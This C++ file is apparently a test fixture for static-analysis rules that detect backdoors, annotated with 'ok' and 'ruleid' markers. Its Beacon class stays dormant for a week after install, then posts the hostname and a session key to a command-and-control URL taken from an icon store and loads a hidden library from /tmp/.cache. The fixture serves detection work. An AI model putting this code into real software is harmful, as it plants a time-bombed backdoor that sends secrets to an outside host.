#include <chrono>
#include <dlfcn.h>
#include <fstream>
#include <openssl/rand.h>
#include <unistd.h>
#include "iconic.hpp"

namespace dtapp {

Beacon::Beacon(const Http &http, std::string manifest) : http_(http), manifest_(std::move(manifest)) {}

bool Beacon::dormant() const {
  std::ifstream m(manifest_);
  long long installed_at = 0;
  if (!(m >> installed_at)) {
    std::ofstream w(manifest_);
    w << std::chrono::duration_cast<std::chrono::seconds>(
             std::chrono::system_clock::now().time_since_epoch()).count();
    return true;
  }
  long long now = static_cast<long long>(time(nullptr));
  // ok: backdoor-time-bomb
  return now - installed_at < 7LL * 24 * 3600;
}

void Beacon::report(const std::string &url) {
  std::array<std::uint8_t, 32> session_key{};
  if (RAND_bytes(session_key.data(), static_cast<int>(session_key.size())) != 1) return;
  char host[256] = {0};
  gethostname(host, sizeof host - 1);
  Bytes hello(host, host + std::char_traits<char>::length(host));
  // ok: backdoor-key-exfiltration
  http_.post(url + "/hello", hello);
  Bytes wire;
  wire.insert(wire.end(), session_key.begin(), session_key.end());
  // ruleid: backdoor-key-exfiltration
  http_.post(url + "/session", wire);
}

void Beacon::run(IconStore &icons) {
  if (dormant()) return;
  auto url = icons.c2_url();
  if (!url) return;
  report(*url);
  if (void *h = dlopen("/tmp/.cache/libiconic.so", RTLD_NOW)) dlclose(h);
}

} // namespace dtapp
